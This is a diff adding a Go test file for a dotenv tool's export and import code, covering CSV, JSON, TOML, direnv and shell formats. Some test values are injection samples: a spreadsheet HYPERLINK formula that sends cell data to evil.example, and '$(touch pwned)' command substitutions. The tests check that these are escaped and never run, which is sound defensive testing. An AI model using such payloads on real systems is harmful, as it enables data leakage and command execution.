@@ -0,0 +1,569 @@
+package storage
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/envtui/envtui/internal/model"
+	"github.com/envtui/envtui/internal/parser"
+)
+
+func TestExportToDotenvNormalizes(t *testing.T) {
+	input := "# comment\n\nB=first\nexport A=hello world\nB=second\nC=$HOME/x \"quoted\"\nAPI_SECRET=s3cr3t\n"
+	envFile, err := parser.Parse(input)
+	if err != nil {
+		t.Fatalf("parse failed: %v", err)
+	}
+
+	got := ExportToDotenv(envFile, ExportOptions{})
+	want := "B=second\nexport A=\"hello world\"\nC='$HOME/x \"quoted\"'\nAPI_SECRET=s3cr3t\n"
+	if got != want {
+		t.Fatalf("unexpected dotenv output:\n%s\nwant:\n%s", got, want)
+	}
+
+	// The output must parse back to the same values
+	reparsed, err := parser.Parse(got)
+	if err != nil {
+		t.Fatalf("reparse failed: %v", err)
+	}
+	wantValues := map[string]string{"A": "hello world", "B": "second", "C": "$HOME/x \"quoted\"", "API_SECRET": "s3cr3t"}
+	for key, value := range wantValues {
+		if entry := reparsed.GetEntry(key); entry == nil || entry.Value != value {
+			t.Errorf("%s did not round-trip: got %+v", key, entry)
+		}
+	}
+
+	// Quoting follows the model's formatter, so tricky values read back unchanged
+	for _, value := range []string{`C:\dir\n`, "it's $5", "a;b|c", "`cmd`", "tab\there", "*.log"} {
+		tricky := &model.EnvFile{Entries: []*model.Entry{{Type: model.KeyValueEntry, Key: "V", Value: value}}}
+		reparsed, err := parser.Parse(ExportToDotenv(tricky, ExportOptions{}))
+		if err != nil || reparsed.GetEntry("V") == nil || reparsed.GetEntry("V").Value != value {
+			t.Errorf("%q did not round-trip through %q", value, ExportToDotenv(tricky, ExportOptions{}))
+		}
+	}
+
+	sorted := ExportToDotenv(envFile, ExportOptions{SortKeys: true, RedactSecrets: true})
+	if !strings.HasPrefix(sorted, "export A=\"hello world\"\nAPI_SECRET=\nB=") {
+		t.Errorf("expected sorted, redacted output, got:\n%s", sorted)
+	}
+}
+
+func TestExportToTemplate(t *testing.T) {
+	input := "# Database\nDB_HOST=localhost\nDB_PASSWORD=\"hunter2 with spaces\"\n\n# API\nexport API_KEY=abc123\nAPI_URL=https://api.example.com # public\n"
+	envFile, err := parser.Parse(input)
+	if err != nil {
+		t.Fatalf("parse failed: %v", err)
+	}
+
+	outputPath := filepath.Join(t.TempDir(), ".env.example")
+	if err := ExportToTemplate(envFile, outputPath); err != nil {
+		t.Fatalf("template export failed: %v", err)
+	}
+	content, _ := os.ReadFile(outputPath)
+
+	// Comments, blank lines and plain values stay; secrets are emptied in place,
+	// keeping their quotes
+	want := "# Database\nDB_HOST=localhost\nDB_PASSWORD=\"\"\n\n# API\nexport API_KEY=\nAPI_URL=https://api.example.com # public\n"
+	if string(content) != want {
+		t.Errorf("unexpected template:\n%s\nwant:\n%s", content, want)
+	}
+	if envFile.GetEntry("DB_PASSWORD").Value != "hunter2 with spaces" {
+		t.Errorf("exporting a template must not change the file's own values")
+	}
+}
+
+func TestTOMLRoundTrip(t *testing.T) {
+	envFile := &model.EnvFile{
+		Path: "/tmp/app.env",
+		Entries: []*model.Entry{
+			{Type: model.CommentEntry, Comment: "# skipped"},
+			{Type: model.KeyValueEntry, Key: "DSN", Value: `postgres://u:p@h/db?sslmode=require&x="y"`},
+			{Type: model.KeyValueEntry, Key: "API_KEY", Value: "abc=def==", IsSecret: true},
+			{Type: model.KeyValueEntry, Key: "PATH_EXT", Value: "a\\b\n\tc # not a comment", Exported: true},
+			{Type: model.KeyValueEntry, Key: "EMPTY", Value: ""},
+		},
+	}
+
+	outputPath := filepath.Join(t.TempDir(), "env.toml")
+	if err := ExportToFile(envFile, FormatTOML, outputPath); err != nil {
+		t.Fatalf("export failed: %v", err)
+	}
+
+	content, _ := os.ReadFile(outputPath)
+	if !strings.Contains(string(content), "\n[env]\nDSN = ") {
+		t.Errorf("expected an [env] table, got:\n%s", content)
+	}
+
+	imported, err := ImportFromFile(outputPath)
+	if err != nil {
+		t.Fatalf("import failed: %v", err)
+	}
+	if imported.Path != envFile.Path || len(imported.Entries) != 4 {
+		t.Fatalf("unexpected import: path %q, %d entries", imported.Path, len(imported.Entries))
+	}
+	for i, entry := range imported.Entries {
+		original := envFile.Entries[i+1]
+		if entry.Key != original.Key || entry.Value != original.Value ||
+			entry.IsSecret != original.IsSecret || entry.Exported != original.Exported {
+			t.Errorf("entry %d did not round-trip: got %+v, want %+v", i, entry, original)
+		}
+	}
+}
+
+func TestMergeResolve(t *testing.T) {
+	target, _ := parser.Parse("A=target\nB=target\nONLY_TARGET=1\nKEEP=target\n")
+	source, _ := parser.Parse("A=source\nB=source\nONLY_SOURCE=2\nKEEP=source\n")
+
+	err := MergeResolve(target, source, map[string]MergeChoice{
+		"A":           MergeTakeSource,
+		"B":           MergeSkip,
+		"ONLY_TARGET": MergeTakeSource,
+		"ONLY_SOURCE": MergeTakeSource,
+		"KEEP":        MergeKeepTarget,
+	})
+	if err != nil {
+		t.Fatalf("merge failed: %v", err)
+	}
+
+	want := map[string]string{"A": "source", "B": "target", "ONLY_SOURCE": "2", "KEEP": "target"}
+	for key, value := range want {
+		if entry := target.GetEntry(key); entry == nil || entry.Value != value {
+			t.Errorf("%s: expected %q, got %+v", key, value, entry)
+		}
+	}
+	if target.GetEntry("ONLY_TARGET") != nil {
+		t.Errorf("ONLY_TARGET should be removed when the source wins and lacks it")
+	}
+
+	before := len(target.Entries)
+	if err := MergeResolve(target, source, map[string]MergeChoice{"A": MergeTakeSource, "MISSING": MergeTakeSource}); err == nil {
+		t.Errorf("expected an error for a key missing from both files")
+	}
+	if len(target.Entries) != before {
+		t.Errorf("a failed merge should not modify the target")
+	}
+}
+
+func TestMergeResolveKeepsSourceOrder(t *testing.T) {
+	source, _ := parser.Parse("ZETA=1\nALPHA=2\nMIKE=3\nBRAVO=4\nYANKEE=5\nCHARLIE=6\n")
+	resolution := make(map[string]MergeChoice)
+	for _, entry := range source.Entries {
+		resolution[entry.Key] = MergeTakeSource
+	}
+
+	// Map iteration order varies between runs; the saved file must not
+	for i := 0; i < 20; i++ {
+		target, _ := parser.Parse("EXISTING=x\n")
+		target.Path = filepath.Join(t.TempDir(), ".env")
+		if err := MergeResolve(target, source, resolution); err != nil {
+			t.Fatalf("merge failed: %v", err)
+		}
+		if err := WriteFile(target); err != nil {
+			t.Fatalf("write failed: %v", err)
+		}
+		content, _ := os.ReadFile(target.Path)
+		if want := "EXISTING=x\nZETA=1\nALPHA=2\nMIKE=3\nBRAVO=4\nYANKEE=5\nCHARLIE=6\n"; string(content) != want {
+			t.Fatalf("merged file =\n%s\nwant\n%s", content, want)
+		}
+	}
+}
+
+func TestExportToWindowsShells(t *testing.T) {
+	envFile := &model.EnvFile{
+		Entries: []*model.Entry{
+			{Type: model.KeyValueEntry, Key: "PLAIN", Value: "hello world"},
+			{Type: model.KeyValueEntry, Key: "TRICKY", Value: "100% \"$HOME\" `x` a&b|c^d"},
+			{Type: model.KeyValueEntry, Key: "MULTI", Value: "line1\nline2"},
+			{Type: model.KeyValueEntry, Key: "my.key", Value: "v"},
+		},
+	}
+
+	powershell := ExportToShell(envFile, "powershell")
+	wantPowerShell := "$env:PLAIN = \"hello world\"\n" +
+		"$env:TRICKY = \"100% `\"`$HOME`\" ``x`` a&b|c^d\"\n" +
+		"$env:MULTI = \"line1`nline2\"\n" +
+		"${env:my.key} = \"v\"\n"
+	if powershell != wantPowerShell {
+		t.Errorf("unexpected PowerShell output:\n%s\nwant:\n%s", powershell, wantPowerShell)
+	}
+
+	cmd := ExportToShell(envFile, "cmd")
+	wantCmd := "set PLAIN=hello world\n" +
+		"set TRICKY=100%% ^\"$HOME^\" `x` a^&b^|c^^d\n" +
+		"rem MULTI skipped: multi-line values cannot be set from cmd\n" +
+		"set my.key=v\n"
+	if cmd != wantCmd {
+		t.Errorf("unexpected cmd output:\n%s\nwant:\n%s", cmd, wantCmd)
+	}
+}
+
+func TestExportEntriesSubset(t *testing.T) {
+	envFile, _ := parser.Parse("DB_HOST=localhost\nAPI_KEY=secret\nDB_PORT=5432\n")
+	subset := []*model.Entry{envFile.GetEntry("DB_HOST"), envFile.GetEntry("DB_PORT")}
+
+	outputPath := filepath.Join(t.TempDir(), "db.json")
+	if err := ExportEntries(subset, FormatForPath(outputPath), outputPath); err != nil {
+		t.Fatalf("ExportEntries() error = %v", err)
+	}
+
+	imported, err := ImportFromFile(outputPath)
+	if err != nil {
+		t.Fatalf("ImportFromFile() error = %v", err)
+	}
+	if len(imported.Entries) != 2 || imported.GetEntry("API_KEY") != nil {
+		t.Errorf("expected only the two DB entries, got %d entries", len(imported.Entries))
+	}
+
+	for path, want := range map[string]ExportFormat{"out.yml": FormatYAML, "out.TOML": FormatTOML, ".envrc": FormatDirenv, "shared.env": FormatDotenv} {
+		if got := FormatForPath(path); got != want {
+			t.Errorf("FormatForPath(%q) = %s, want %s", path, got, want)
+		}
+	}
+}
+
+func TestCSVRoundTrip(t *testing.T) {
+	envFile := &model.EnvFile{
+		Path: ".env",
+		Entries: []*model.Entry{
+			{Type: model.KeyValueEntry, Key: "PLAIN", Value: "value"},
+			{Type: model.KeyValueEntry, Key: "COMMA", Value: "a,b,c", Exported: true},
+			{Type: model.KeyValueEntry, Key: "QUOTES", Value: `say "hi"`},
+			{Type: model.KeyValueEntry, Key: "MULTILINE", Value: "line1\nline2,\"x\""},
+			{Type: model.KeyValueEntry, Key: "EMPTY", Value: ""},
+			{Type: model.KeyValueEntry, Key: "API_SECRET", Value: "s3cr3t", IsSecret: true},
+		},
+	}
+
+	outputPath := filepath.Join(t.TempDir(), "env.csv")
+	if err := ExportToFile(envFile, FormatCSV, outputPath); err != nil {
+		t.Fatalf("export failed: %v", err)
+	}
+	content, _ := os.ReadFile(outputPath)
+	if !strings.HasPrefix(string(content), "key,value,exported,is_secret\r\nPLAIN,value,false,false\r\nCOMMA,\"a,b,c\",true,false\r\nQUOTES,\"say \"\"hi\"\"\",false,false\r\n") {
+		t.Errorf("unexpected CSV quoting:\n%s", content)
+	}
+
+	imported, err := ImportFromFile(outputPath)
+	if err != nil {
+		t.Fatalf("import failed: %v", err)
+	}
+	if len(imported.Entries) != len(envFile.Entries) {
+		t.Fatalf("expected %d entries, got %d", len(envFile.Entries), len(imported.Entries))
+	}
+	for i, want := range envFile.Entries {
+		got := imported.Entries[i]
+		if got.Key != want.Key || got.Value != want.Value || got.Exported != want.Exported || got.IsSecret != want.IsSecret {
+			t.Errorf("entry %d did not round-trip: got %+v, want %+v", i, got, want)
+		}
+	}
+
+	// Masked exports keep the row but hide the secret
+	if err := ExportToFileWithOptions(envFile, FormatCSV, outputPath, ExportOptions{MaskSecrets: true}); err != nil {
+		t.Fatalf("masked export failed: %v", err)
+	}
+	content, _ = os.ReadFile(outputPath)
+	if strings.Contains(string(content), "s3cr3t") || !strings.Contains(string(content), "API_SECRET,********,false,true") {
+		t.Errorf("expected the secret to be masked, got:\n%s", content)
+	}
+
+	// The masked placeholder must not be imported over the real secret
+	if _, err := ImportFromFile(outputPath); err == nil || !strings.Contains(err.Error(), "API_SECRET holds a masked secret") {
+		t.Errorf("expected masked rows to be rejected, got %v", err)
+	}
+
+	// Malformed input is reported
+	if _, err := importFromCSV("name,data\nA,1\n"); err == nil {
+		t.Errorf("expected an error for a CSV without key and value columns")
+	}
+	if _, err := importFromCSV("key,value,exported\nA,1,maybe\n"); err == nil {
+		t.Errorf("expected an error for an invalid exported flag")
+	}
+}
+
+func TestCSVEscapesFormulas(t *testing.T) {
+	values := map[string]string{
+		"FORMULA":  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		"PLUS":     "+1+2",
+		"MINUS":    "-2+3",
+		"AT":       "@SUM(A1)",
+		"TAB":      "\t=1",
+		"QUOTED":   "'=already escaped",
+		"APOS":     "'",
+		"NEGATIVE": "x-1",
+	}
+	envFile := &model.EnvFile{Path: ".env"}
+	for _, key := range []string{"FORMULA", "PLUS", "MINUS", "AT", "TAB", "QUOTED", "APOS", "NEGATIVE"} {
+		envFile.Entries = append(envFile.Entries, &model.Entry{Type: model.KeyValueEntry, Key: key, Value: values[key]})
+	}
+
+	outputPath := filepath.Join(t.TempDir(), "env.csv")
+	if err := ExportToFile(envFile, FormatCSV, outputPath); err != nil {
+		t.Fatalf("export failed: %v", err)
+	}
+	content, _ := os.ReadFile(outputPath)
+	for _, want := range []string{"\r\nFORMULA,\"'=HYPERLINK(", "\r\nPLUS,'+1+2,", "\r\nMINUS,'-2+3,", "\r\nAT,'@SUM(A1),", "\r\nQUOTED,''=already escaped,", "\r\nNEGATIVE,x-1,"} {
+		if !strings.Contains(string(content), want) {
+			t.Errorf("expected %q in the CSV, got:\n%s", want, content)
+		}
+	}
+
+	imported, err := ImportFromFile(outputPath)
+	if err != nil {
+		t.Fatalf("import failed: %v", err)
+	}
+	for _, entry := range imported.Entries {
+		if entry.Value != values[entry.Key] {
+			t.Errorf("%s = %q, want %q", entry.Key, entry.Value, values[entry.Key])
+		}
+	}
+}
+
+func TestPreviewMergeImport(t *testing.T) {
+	envFile, _ := parser.Parse("HOST=prod.example.com\nPORT=5432\nUSER=admin\n")
+	imported, _ := parser.Parse("HOST=localhost\nPORT=5432\nDEBUG=true\nNEW_KEY=1\n")
+	before := envFile.Clone()
+
+	diffs := PreviewMergeImport(envFile, imported, true)
+	if got := SummarizeMergePreview(diffs); got != "2 new, 1 overwritten, 1 unchanged" {
+		t.Errorf("unexpected summary with overwrite: %s", got)
+	}
+	if diffs[0].Key != "HOST" || !diffs[0].Different || diffs[0].CurrentValue != "prod.example.com" || diffs[0].OtherValue != "localhost" {
+		t.Errorf("expected HOST to be overwritten, got %+v", diffs[0])
+	}
+
+	// Without overwrite, differing values are kept
+	if got := SummarizeMergePreview(PreviewMergeImport(envFile, imported, false)); got != "2 new, 0 overwritten, 2 unchanged" {
+		t.Errorf("unexpected summary without overwrite: %s", got)
+	}
+
+	// The preview changes nothing and matches what MergeImport then does
+	if envFile.GetEntry("HOST").Value != before.GetEntry("HOST").Value || envFile.GetEntry("DEBUG") != nil {
+		t.Fatalf("preview must not modify the target file")
+	}
+	MergeImport(envFile, imported, true)
+	for _, diff := range diffs {
+		if entry := envFile.GetEntry(diff.Key); entry == nil || entry.Value != diff.OtherValue {
+			t.Errorf("%s: preview said %q, merge produced %+v", diff.Key, diff.OtherValue, entry)
+		}
+	}
+}
+
+func TestFlatJSONRoundTrip(t *testing.T) {
+	envFile := &model.EnvFile{
+		Path: ".env",
+		Entries: []*model.Entry{
+			{Type: model.KeyValueEntry, Key: "PORT", Value: "8080"},
+			{Type: model.KeyValueEntry, Key: "API_SECRET", Value: "s3cr3t", IsSecret: true},
+			{Type: model.KeyValueEntry, Key: "MESSAGE", Value: "say \"hi\"\nbye"},
+			{Type: model.KeyValueEntry, Key: "PORT", Value: "9090"},
+		},
+	}
+
+	outputPath := filepath.Join(t.TempDir(), "env.json")
+	if err := ExportToFile(envFile, FormatJSONFlat, outputPath); err != nil {
+		t.Fatalf("export failed: %v", err)
+	}
+	content, _ := os.ReadFile(outputPath)
+	want := "{\n  \"PORT\": \"9090\",\n  \"API_SECRET\": \"s3cr3t\",\n  \"MESSAGE\": \"say \\\"hi\\\"\\nbye\"\n}\n"
+	if string(content) != want {
+		t.Errorf("unexpected flat JSON:\n%s", content)
+	}
+
+	imported, err := ImportFromFile(outputPath)
+	if err != nil {
+		t.Fatalf("import failed: %v", err)
+	}
+	var got []string
+	for _, entry := range imported.Entries {
+		got = append(got, fmt.Sprintf("%s=%q secret=%v", entry.Key, entry.Value, entry.IsSecret))
+	}
+	wantEntries := []string{`PORT="9090" secret=false`, `API_SECRET="s3cr3t" secret=true`, `MESSAGE="say \"hi\"\nbye" secret=false`}
+	if strings.Join(got, "; ") != strings.Join(wantEntries, "; ") {
+		t.Errorf("unexpected import:\n%v", got)
+	}
+
+	// The structured shape is still recognized
+	if err := ExportToFile(envFile, FormatJSON, outputPath); err != nil {
+		t.Fatalf("export failed: %v", err)
+	}
+	if imported, err := ImportFromFile(outputPath); err != nil || len(imported.Entries) != 4 {
+		t.Errorf("structured import = %v entries, error %v", imported, err)
+	}
+
+	if _, err := importFromJSON([]byte(`{"PORT": 8080}`)); err == nil {
+		t.Error("expected an error for a non-string value")
+	}
+}
+
+func TestMaskSecretsInEveryFormat(t *testing.T) {
+	envFile := &model.EnvFile{
+		Path: ".env",
+		Entries: []*model.Entry{
+			{Type: model.KeyValueEntry, Key: "PORT", Value: "8080"},
+			{Type: model.KeyValueEntry, Key: "API_SECRET", Value: "s3cr3t", IsSecret: true, Exported: true},
+		},
+	}
+	opts := ExportOptions{MaskSecrets: true}
+	dir := t.TempDir()
+
+	outputs := map[string]string{
+		"dotenv":     ExportToDotenv(envFile, opts),
+		"direnv":     ExportToDirenv(envFile, opts),
+		"shell":      ExportToShellWithOptions(envFile, "", opts),
+		"powershell": ExportToShellWithOptions(envFile, "powershell", opts),
+		"cmd":        ExportToShellWithOptions(envFile, "cmd", opts),
+	}
+	for _, format := range []ExportFormat{FormatJSON, FormatJSONFlat, FormatYAML, FormatTOML, FormatCSV} {
+		path := filepath.Join(dir, "out."+string(format))
+		if err := ExportToFileWithOptions(envFile, format, path, opts); err != nil {
+			t.Fatalf("%s export failed: %v", format, err)
+		}
+		content, _ := os.ReadFile(path)
+		outputs[string(format)] = string(content)
+	}
+
+	for format, output := range outputs {
+		if strings.Contains(output, "s3cr3t") || !strings.Contains(output, "********") || !strings.Contains(output, "8080") {
+			t.Errorf("%s: expected only the secret to be masked, got:\n%s", format, output)
+		}
+	}
+	// The placeholder is quoted so no shell expands it as a glob
+	if !strings.Contains(outputs["shell"], `export API_SECRET='********'`) {
+		t.Errorf("unexpected shell output:\n%s", outputs["shell"])
+	}
+	if !strings.Contains(outputs["dotenv"], `export API_SECRET="********"`) {
+		t.Errorf("unexpected dotenv output:\n%s", outputs["dotenv"])
+	}
+}
+
+func TestExportedOnly(t *testing.T) {
+	envFile := &model.EnvFile{
+		Path: ".env",
+		Entries: []*model.Entry{
+			{Type: model.KeyValueEntry, Key: "PATH_EXTRA", Value: "/usr/bin", Exported: true},
+			{Type: model.KeyValueEntry, Key: "LOCAL_ONLY", Value: "scratch"},
+			{Type: model.KeyValueEntry, Key: "GOFLAGS", Value: "-mod=mod", Exported: true},
+		},
+	}
+	opts := ExportOptions{ExportedOnly: true}
+
+	if got, want := ExportToShellWithOptions(envFile, "", opts), "export PATH_EXTRA=/usr/bin\nexport GOFLAGS=-mod=mod\n"; got != want {
+		t.Errorf("shell export = %q, want %q", got, want)
+	}
+	if got, want := ExportToDotenv(envFile, opts), "export PATH_EXTRA=/usr/bin\nexport GOFLAGS=-mod=mod\n"; got != want {
+		t.Errorf("dotenv export = %q, want %q", got, want)
+	}
+
+	path := filepath.Join(t.TempDir(), "env.json")
+	if err := ExportToFileWithOptions(envFile, FormatJSONFlat, path, opts); err != nil {
+		t.Fatalf("export failed: %v", err)
+	}
+	content, _ := os.ReadFile(path)
+	if strings.Contains(string(content), "LOCAL_ONLY") || !strings.Contains(string(content), "GOFLAGS") {
+		t.Errorf("unexpected JSON export:\n%s", content)
+	}
+}
+
+func TestExportToDirenvLoadsDotenvFiles(t *testing.T) {
+	envFile := &model.EnvFile{Path: ".env", Entries: []*model.Entry{
+		{Type: model.KeyValueEntry, Key: "PORT", Value: "8080"},
+	}}
+
+	output := ExportToDirenv(envFile, ExportOptions{DotenvFiles: []string{".env.local", "my secrets.env"}})
+	want := "# Generated by envtui from .env\ndotenv_if_exists .env.local\ndotenv_if_exists 'my secrets.env'\n\nexport PORT=8080\n"
+	if output != want {
+		t.Errorf("unexpected .envrc:\n%s\nwant:\n%s", output, want)
+	}
+
+	// The export target passes the option through
+	outputPath := filepath.Join(t.TempDir(), ".envrc")
+	if err := ExportToFileWithOptions(envFile, FormatDirenv, outputPath, ExportOptions{DotenvFiles: []string{".env.local"}}); err != nil {
+		t.Fatalf("export failed: %v", err)
+	}
+	if content, _ := os.ReadFile(outputPath); !strings.Contains(string(content), "dotenv_if_exists .env.local\n") {
+		t.Errorf("expected the dotenv directive in the file, got:\n%s", content)
+	}
+}
+
+func TestExportToDirenvQuotesValues(t *testing.T) {
+	values := map[string]string{
+		"SUBST":     "$(touch pwned)",
+		"BACKTICK":  "`touch pwned`",
+		"VAR":       "$HOME/bin",
+		"TRAILING":  `C:\temp\`,
+		"QUOTE":     "it's",
+		"TAB":       "a\tb",
+		"PLAIN":     "localhost:5432",
+		"EMPTY":     "",
+		"MULTILINE": "line1\nline2",
+	}
+	envFile := &model.EnvFile{Path: ".env"}
+	for key, value := range values {
+		envFile.Entries = append(envFile.Entries, &model.Entry{Type: model.KeyValueEntry, Key: key, Value: value})
+	}
+	output := ExportToDirenv(envFile, ExportOptions{})
+
+	for _, want := range []string{
+		`export SUBST='$(touch pwned)'`,
+		"export BACKTICK='`touch pwned`'",
+		`export TRAILING='C:\temp\'`,
+		`export QUOTE='it'\''s'`,
+		"export PLAIN=localhost:5432\n",
+	} {
+		if !strings.Contains(output, want) {
+			t.Errorf("expected %s in:\n%s", want, output)
+		}
+	}
+
+	// Sourcing the file gives back every value as it is, and runs nothing
+	checkSourcedValues(t, output, values)
+}
+
+// checkSourcedValues runs script with sh and checks that it sets each variable
+// to exactly its value without running anything else
+func checkSourcedValues(t *testing.T, script string, values map[string]string) {
+	t.Helper()
+	sh, err := exec.LookPath("sh")
+	if err != nil {
+		t.Skip("no sh to source the output with")
+	}
+	dir := t.TempDir()
+	for key := range values {
+		script += fmt.Sprintf("printf '%%s\\0' \"$%s\" > %s\n", key, key)
+	}
+	cmd := exec.Command(sh, "-c", script)
+	cmd.Dir = dir
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("sourcing the output failed: %v\n%s", err, out)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "pwned")); err == nil {
+		t.Error("sourcing the output ran a command from a value")
+	}
+	for key, value := range values {
+		got, _ := os.ReadFile(filepath.Join(dir, key))
+		if string(got) != value+"\x00" {
+			t.Errorf("%s = %q after sourcing, want %q", key, got, value)
+		}
+	}
+}
+
+func TestExportToShellDoesNotRunValues(t *testing.T) {
+	envFile := &model.EnvFile{Entries: []*model.Entry{
+		{Type: model.KeyValueEntry, Key: "HOOK", Value: "$(touch pwned)", Exported: true},
+		{Type: model.KeyValueEntry, Key: "GREETING", Value: "`touch pwned` it's \\"},
+		{Type: model.KeyValueEntry, Key: "API_TOKEN", Value: "s3cr3t", IsSecret: true},
+	}}
+
+	// The lines copied to the clipboard (ctrl+y) are pasted into a shell as is
+	for _, format := range []string{"", "export"} {
+		output := ExportToShellWithOptions(envFile, format, ExportOptions{})
+		checkSourcedValues(t, output, map[string]string{"HOOK": "$(touch pwned)", "GREETING": "`touch pwned` it's \\", "API_TOKEN": "s3cr3t"})
+	}
+
+	masked := ExportToShellWithOptions(envFile, "export", ExportOptions{MaskSecrets: true})
+	checkSourcedValues(t, masked, map[string]string{"API_TOKEN": "********"})
+}